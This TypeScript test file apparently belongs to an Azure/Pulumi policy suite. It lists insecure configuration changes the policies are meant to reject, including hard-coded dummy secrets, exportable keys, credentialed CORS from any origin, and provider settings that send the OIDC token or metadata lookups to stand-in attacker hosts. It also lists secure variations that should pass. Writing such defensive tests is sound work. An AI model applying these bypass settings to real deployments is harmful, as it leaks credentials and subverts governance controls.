// ---------------------------------------------------------------------------------------------

const appSecret = (id: string, set: Record<string, unknown>): Mutation => ({
  id: `app: ${id}`,
  type: T.app,
  where: appNamed("api"),
  set,
  policy: "container-app-no-secret-env",
  control: "SEC-1",
});
const envVar = (id: string, name: string, value: string) =>
  appSecret(id, { "push:template.containers.0.env": { name, value } });

const SECRETS: Mutation[] = [
  appSecret("password as a command-line flag", {
    "template.containers.0.args": ["--db-password=hunter2-hunter2"],
  }),
  appSecret("API key as a separate argument", {
    "template.containers.0.args": ["serve", "--api-key", "abc123def456"],
  }),
  appSecret("bearer token inside a shell command", {
    "template.containers.0.command": [
      "/bin/sh",
      "-c",
      "curl -H 'Authorization: Bearer abcdefgh12345678' https://x",
    ],
  }),
  appSecret("probe header with an API key", {
    "template.containers.0.probes.0.httpGet.httpHeaders": [{ name: "X-Api-Key", value: "k-12345" }],
  }),
  appSecret("probe header with basic auth", {
    "template.containers.0.probes.1.httpGet.httpHeaders": [
      { name: "Authorization", value: "Basic dXNlcjpwYXNzd29yZA==" },
    ],
  }),
  appSecret("init container with a database password", {
    "template.initContainers": [
      {
        name: "migrate",
        image: "mcr.microsoft.com/k8se/quickstart:latest",
        env: [{ name: "PGPASSWORD", value: "s3cr3t-pass" }],
      },
    ],
  }),
  appSecret("scale rule metadata with a Service Bus connection string", {
    "template.scale.rules": [
      {
        name: "queue",
        custom: {
          type: "azure-servicebus",
          metadata: {
            queueName: "jobs",
            connection: "Endpoint=sb://ns.servicebus.windows.net/;SharedAccessKeyName=x;SharedAccessKey=abc",
          },
        },
      },
    ],
  }),
  appSecret("SMB mount options with a password", {
    "template.volumes": [
      {
        name: "share",
        storageType: "AzureFile",
        storageName: "share",
        mountOptions: "uid=1000,password=hunter2",
      },
    ],
  }),
  envVar("DB_PASS-style name", "DB_PASS", "hunter2-hunter2"),
  envVar(
    "URL with an empty user and a password",
    "UPSTREAM_URL",
    "https://:hunter2@api.partner.example.com/v1",
  ),
  envVar(
    "Bearer token inside a value",
    "PARTNER_HEADERS",
    "Accept: json; Authorization: Bearer abcdefgh12345678",
  ),
  envVar(
    "Slack webhook",
    "ALERTS_URL",
    "https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXX",
  ),
  envVar(
    "Teams webhook",
    "TEAMS_URL",
    "https://acme.webhook.office.com/webhookb2/abc@def/IncomingWebhook/123/456",
  ),
  envVar("Discord webhook", "CHAT_URL", "https://discord.com/api/webhooks/123456/abcdef"),
  envVar(
    "SAS URL",
    "EXPORT_URL",
    "https://st.blob.core.windows.net/c?sv=2022-11-02&ss=b&srt=co&sp=rl&sig=abc%3D",
  ),
  envVar("Azure Functions key in a URL", "HOOK_URL", "https://fn.azurewebsites.net/api/ingest?code=abc123=="),
  envVar("GitHub token under a harmless name", "BUILD_INFO", "ghp_abcdefghijklmnopqrstuvwxyz0123456789"),
  envVar("JWT under a harmless name", "SESSION_SEED", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ4In0.sig"),
  envVar("private key", "TLS_MATERIAL", "-----BEGIN RSA PRIVATE KEY-----\nMIIE..."),
  envVar("camelCase secret name", "dbPassword", "hunter2-hunter2"),
  appSecret("a value smuggled beside a secretRef", {
    "push:template.containers.0.env": {
      name: "DB_PASSWORD",
      secretRef: "third-party-api-key",
      value: "hunter2",
    },
  }),
  {
    id: "job with a password on the command line",
    add: job("job-args-secret", { "template.containers.0.args": ["--password", "hunter2-hunter2"] }),
    policy: "container-app-no-secret-env",
    control: "SEC-1",
  },
  {
    id: "Dapr component with a Redis password in metadata",
    add: {
      type: "azure-native:app:DaprComponent",
      name: "dapr-redis",
      inputs: (c) => ({
        resourceGroupName: c.resourceGroup,
        environmentName: c.nameOf(T.env),
        componentName: "statestore",
        componentType: "state.redis",
        version: "v1",
        metadata: [
          { name: "redisHost", value: "cache:6380" },
          { name: "redisPassword", value: "hunter2-hunter2" },
        ],
      }),
    },
    policy: "dapr-component-secrets-by-reference",
    control: "SEC-1",
  },
  {
    id: "Dapr component storing a secret value",
    add: {
      type: "azure-native:app:DaprComponent",
      name: "dapr-secret",
      inputs: (c) => ({
        resourceGroupName: c.resourceGroup,
        environmentName: c.nameOf(T.env),
        componentName: "pubsub",
        componentType: "pubsub.azure.servicebus.queues",
        version: "v1",
        secrets: [{ name: "conn", value: "Endpoint=sb://x/;SharedAccessKey=abc" }],
        metadata: [{ name: "connectionString", secretRef: "conn" }],
      }),
    },
    policy: "dapr-component-secrets-by-reference",
    control: "SEC-1",
  },
  {
    id: "environment custom domain certificate with its password in the program",
    type: T.env,
    set: {
      customDomainConfiguration: {
        dnsSuffix: "apps.example.com",
        certificateValue: "MIIKcQIBAzCCCjcGCSqGSIb3DQEHAaCCCigEggok",
        certificatePassword: "pfx-password",
      },
    },
    policy: "managed-environment-no-certificate-secrets",
    control: "SEC-1",
  },
  {
    id: "environment storage mount with a storage account key",
    add: {
      type: "azure-native:app:ManagedEnvironmentsStorage",
      name: "share",
      inputs: (c) => ({
        resourceGroupName: c.resourceGroup,
        environmentName: c.nameOf(T.env),
        storageName: "share",
        properties: {
          azureFile: {
            accountName: c.nameOf(T.account),
            accountKey: "abc123==",
            shareName: "share",
            accessMode: "ReadWrite",
          },
        },
      }),
    },
    policy: "managed-environment-storage-no-account-key",
    control: "SEC-1",
  },
];

// ---------------------------------------------------------------------------------------------
// Keys (classes 5 and 7): releasable keys, and signing keys used as customer-managed keys
// ---------------------------------------------------------------------------------------------

const KEYS: Mutation[] = [
  {
    id: "customer-managed key made exportable",
    stacks: PROD,
    type: T.key,
    set: { "properties.attributes.exportable": true },
    policy: "key-vault-key-not-exportable",
    control: "ENC-2",
  },
  {
    id: "customer-managed key given a release policy",
    stacks: PROD,
    type: T.key,
    set: {
      "properties.releasePolicy": {
        contentType: "application/json; charset=utf-8",
        data: "eyJ2ZXJzaW9uIjoiMS4wLjAifQ",
      },
    },
    policy: "key-vault-key-not-exportable",
    control: "ENC-2",
  },
  {
    id: "customer-managed key swapped for an EC signing key",
    stacks: PROD,
    type: T.key,
    set: {
      "properties.kty": "EC-HSM",
      "properties.curveName": "P-256",
      "properties.keyOps": ["sign", "verify"],
    },
    policy: "customer-managed-key-strength",
    control: "ENC-2",
  },
  {
    id: "customer-managed key shrunk to 2048 bits and labelled sign-only",
    stacks: PROD,
    type: T.key,
    set: { "properties.keySize": 2048, "properties.keyOps": ["sign", "verify"] },
    policy: "customer-managed-key-strength",
    control: "ENC-2",
  },
  {
    id: "an exportable key added to the vault",
    add: {
      type: T.key,
      name: "releasable",
      inputs: (c) => ({
        resourceGroupName: c.resourceGroup,
        vaultName: c.nameOf(T.vault),
        keyName: "releasable",
        properties: {
          kty: "RSA-HSM",
          keySize: 3072,
          attributes: { exportable: true },
          releasePolicy: { data: "eyJ2ZXJzaW9uIjoiMS4wLjAifQ" },
        },
      }),
    },
    policy: "key-vault-key-not-exportable",
    control: "ENC-2",
  },
];

export const MUTATIONS: Mutation[] = [
  ...ESCAPE_HATCHES,
  ...PROVIDER_HATCHES,
  ...BORROWED_IDENTITIES,
  ...REWRITING_DEFINITIONS,
  ...POLICY_RESOURCES,
  ...CUSTOM_ROLES,
  ...FEDERATED,
  ...PRIVILEGE,
  ...SECRETS,
  ...KEYS,
  // bypass9: any website the user visits reads the frontend's responses with the user's cookies.
  ...(
    [
      ["every origin", ["*"]],
      ["the null origin", ["null"]],
      ["a plain-http origin", ["http://portal.example.com"]],
    ] as const
  ).map(([what, allowedOrigins]): Mutation => ({
    id: `frontend CORS allows credentials from ${what}`,
    type: T.app,
    where: appNamed("web"),
    set: {
      "configuration.ingress.corsPolicy": {
        allowedOrigins,
        allowedMethods: ["GET", "POST"],
        allowCredentials: true,
      },
    },
    policy: "container-app-cors-credentials",
    control: "NET-2",
  })),
  // bypass11: an Azure type handed to another package's provider. The SDK sends a custom
  // resource's explicit provider whatever its package and the engine takes it as given, so the
  // dynamic provider runs the `__provider` code for a storage account whose inputs pass every
  // service policy. Before, no policy compared an Azure resource's provider with its type.
  ...(
    [
      ["a dynamic provider", "pulumi-nodejs", "azure-native:storage:StorageAccount"],
      ["AzAPI's provider (API-versioned token)", "azapi", "azure-native:keyvault/v20230701:Vault"],
      [
        "a parameterized local package's provider of another module",
        "azure-native_storage_v20240101",
        "azure-native:keyvault:Vault",
      ],
    ] as const
  ).map(([what, providerPackage, type]): Mutation => ({
    id: `${type} is handled by ${what}`,
    add: {
      type,
      name: "handed-off",
      providerPackage,
      inputs: (c) => ({
        resourceGroupName: c.resourceGroup,
        location: "westeurope",
        __provider: "exports.handler = { create: async (inputs) => ({ id: 'x', outs: inputs }) };",
      }),
    },
    policy: "azure-resource-own-provider",
    control: "ENV-1",
  })),
  // bypass11: the Azure provider's own settings. A provider resource carries settings only, so no
  // policy judged it, while they decide where every resource goes and where the deploy's tokens
  // are sent. Before, each of these passed.
  ...(
    [
      ["sends its endpoint discovery to another host", "metadataHost", "metadata.attacker.example"],
      [
        "sends the runner's OIDC request token to another URL",
        "oidcRequestUrl",
        "https://collector.example.net/token",
      ],
      [
        "sends every resource to another subscription",
        "subscriptionId",
        "00000000-1111-2222-3333-444444444444",
      ],
      ["sends every call to another cloud", "environment", "usgovernment"],
      [
        "signs calls for another tenant",
        "auxiliaryTenantIds",
        JSON.stringify(["99999999-8888-7777-6666-555555555555"]),
      ],
      ["carries a client secret written into the program", "clientSecret", "s3cr3t-value"],
      // bypass12: who the deploy signs in as.
      ["signs in as another application", "clientId", "00000000-aaaa-4bbb-8ccc-000000000002"],
      ["signs in with the machine's managed identity", "useMsi", true],
      // review13: the default credential chain, tried before OIDC.
      ["signs in with the Azure SDK's default credential chain", "useDefaultAzureCredential", true],
    ] as const
  ).map(([what, key, value]): Mutation => ({
    id: `the azure-native provider ${what} (${key})`,
    type: "pulumi:providers:azure-native",
    set: { [key]: value },
    policy: "azure-provider-settings",
    control: "ENV-1",
  })),
  // bypass11: a credential exported as a stack output (readable by every reader of the stack and
  // every StackReference to it). Before, no policy read the root stack's outputs.
  ...(
    [
      [
        "a storage connection string with its account key",
        "storageConnectionString",
        (c: Context) =>
          `DefaultEndpointsProtocol=https;AccountName=${c.nameOf(T.account)};AccountKey=bXlrZXk=;EndpointSuffix=core.windows.net`,
      ],
      [
        "a database URL with a password, nested in an app's outputs",
        "containerApps.api.databaseUrl",
        () => "postgresql://app:Sup3rS3cret@pg.example.internal:5432/app",
      ],
      [
        "a SAS URL for the exports container",
        "exportsSasUrl",
        () => "https://st.blob.core.windows.net/x?sv=2022-11-02&sig=abc",
      ],
      // bypass12: a key as listStorageAccountKeys returns it carries no marker.
      [
        "the storage account's key as listKeys returns it",
        "storageKey",
        () => `${"k3Y+/a1B".repeat(11)}==`.slice(2),
      ],
      // review13: a key inside a longer text, and an Azure AI services key (32 hexadecimal
      // characters) under a key's name; both passed before.
      ["a 256-bit key after `key=`", "eventGridKey", () => `key=${KEY_256}`],
      ["an Azure OpenAI key under its own name", "openAi.primaryKey", () => HEX_32],
      // resid15: a key exported as a Subresource Integrity digest (the SRI form was exempt), and
      // 32 hexadecimal characters under a credential's name other than a key's, secret's, token's
      // or password's, or after a client secret's name in a JSON text.
      ["a 256-bit key dressed as an SRI sha256 digest", "frontendIntegrity", () => `sha256-${KEY_256}`],
      ["a 512-bit key dressed as an SRI sha512 digest", "assetIntegrity", () => `sha512-${KEY_512}`],
      ["a 256-bit key under an SRI sha384 prefix", "scriptIntegrity", () => `sha384-${KEY_256}`],
      ...(["credential", "credentials", "pwd", "connectionString", "sas", "signature"] as const).map(
        (name) => [`an Azure AI services key under \`${name}\``, `openAi.${name}`, () => HEX_32] as const,
      ),
      [
        "an Azure AI services key after a client secret's name in a JSON text",
        "appSettings",
        () => JSON.stringify({ clientSecret: HEX_32 }),
      ],
    ] as const
  ).map(([what, path, value]): Mutation => ({
    id: `a stack output carries ${what}`,
    type: "pulumi:pulumi:Stack",
    set: { [path]: value },
    policy: "stack-outputs-no-credentials",
    control: "SEC-1",
  })),
];

/** A signing key written the way the CustomerManagedKey component writes keys, but EC and sign/verify only. */
const signingKey: Variation = {
  id: "an EC signing key in the vault is not judged as a customer-managed key",
  add: {
    type: T.key,
    name: "jwt-signing",
    inputs: (c) => ({
      resourceGroupName: c.resourceGroup,
      vaultName: c.nameOf(T.vault),
      keyName: "jwt-signing",
      properties: {
        kty: "EC-HSM",
        curveName: "P-256",
        keyOps: ["sign", "verify"],
        // Version 1 expires like rotated versions (KEY-1): 2028-01-01.
        attributes: { enabled: true, exportable: false, expires: 1830297600 },
        rotationPolicy: {
          attributes: { expiryTime: "P730D" },
          lifetimeActions: [
            { action: { type: "rotate" }, trigger: { timeAfterCreate: "P180D" } },
            { action: { type: "notify" }, trigger: { timeBeforeExpiry: "P30D" } },
          ],
        },
      },
      tags: tagsFor(c, "confidential"),
    }),
  },
};

/** Providers that never touch Azure stay outside no-provider-escape-hatches (the plans use random and time). */
const localOnly: Variation[] = [
  {
    id: "a random password (a provider that never calls Azure)",
    add: { type: "random:index/randomPassword:RandomPassword", name: "pw", inputs: () => ({ length: 32 }) },
  },
  {
    id: "a time rotation (a provider that never calls Azure)",
    add: { type: "time:index/rotating:Rotating", name: "yearly", inputs: () => ({ rotationYears: 1 }) },
  },
];

const harmless = (id: string, name: string, value: string): Variation => ({
  id: `harmless env var: ${id}`,
  type: T.app,
  where: appNamed("api"),
  set: { "push:template.containers.0.env": { name, value } },
});

export const SECURE_VARIATIONS: Variation[] = [
  // review13: a digest and a Key Vault key ID with its 32-hex version are not keys. (resid15: a
  // digest in hex; in SRI form, base64 of 32 bytes, it has a key's shape and is refused.)
  {
    id: "stack outputs with a hex digest and a key ID with its version",
    type: "pulumi:pulumi:Stack",
    set: {
      frontendIntegrity: "sha256:0b30557a9fc4e90e33587da2c7ec11365b80a5caef14395e83a8cdf2173c6186",
      cmkKeyId: "https://kv-sap.vault.azure.net/keys/cmk/9f8e7d6c5b4a4c3d8e2f1a0b9c8d7e6f",
    },
  },
  // resid15: public names, versions and identities beside 32 hexadecimal characters.
  {
    id: "stack outputs with a SHA-256 digest in hex, a public key's hash and key versions",
    type: "pulumi:pulumi:Stack",
    set: {
      frontendSha256: `sha256:${"0123456789abcdef".repeat(4)}`,
      "signing.publicKey": HEX_32,
      "signing.publicKeyHash": HEX_32,
      "signing.keyVersion": HEX_32,
      "signing.clientId": "00000000-0000-4000-8000-000000000001",
    },
  },
  // bypass11: the public cloud named explicitly is where the platform runs.
  {
    id: "the azure-native provider names the public cloud",
    type: "pulumi:providers:azure-native",
    set: { environment: "public" },
  },
  ...localOnly,
  {
    id: "frontend CORS allows one https origin with credentials",
    type: T.app,
    where: appNamed("web"),
    set: {
      "configuration.ingress.corsPolicy": {
        allowedOrigins: ["https://portal.example.com"],
        allowCredentials: true,
      },
    },
  },
  harmless("a numeric policy setting", "PASSWORD_MIN_LENGTH", "12"),
  harmless("a boolean switch", "TOKEN_REFRESH_ENABLED", "true"),
  harmless(
    "a token endpoint URL",
    "TOKEN_ENDPOINT",
    "https://login.microsoftonline.com/tenant/oauth2/v2.0/token",
  ),
  harmless("an OIDC issuer", "TOKEN_ISSUER", "https://login.microsoftonline.com/tenant/v2.0"),
  harmless(
    "a database user without password (Entra auth)",
    "DATABASE_URL",
    "postgresql://id-sap-app-api@db:5432/app",
  ),
  {
    id: "plain command-line flags",
    type: T.app,
    where: appNamed("api"),
    set: { "template.containers.0.args": ["serve", "--log-level", "info", "--port=8080"] },
  },
  {
    id: "a probe header that is not a credential",
    type: T.app,
    where: appNamed("api"),
    set: { "template.containers.0.probes.0.httpGet.httpHeaders": [{ name: "X-Probe", value: "liveness" }] },
  },
  {
    id: "a data-plane role named by an upper-case ID of another form",
    type: T.role,
    where: (i) =>
      workloadRole(i) && String(i.roleDefinitionId).endsWith(BUILT_IN_ROLES["Key Vault Secrets User"]),
    set: { roleDefinitionId: (c: Context) => roleId(c, "Key Vault Secrets User").toUpperCase() },
  },
  { ...signingKey, stacks: PROD },
];
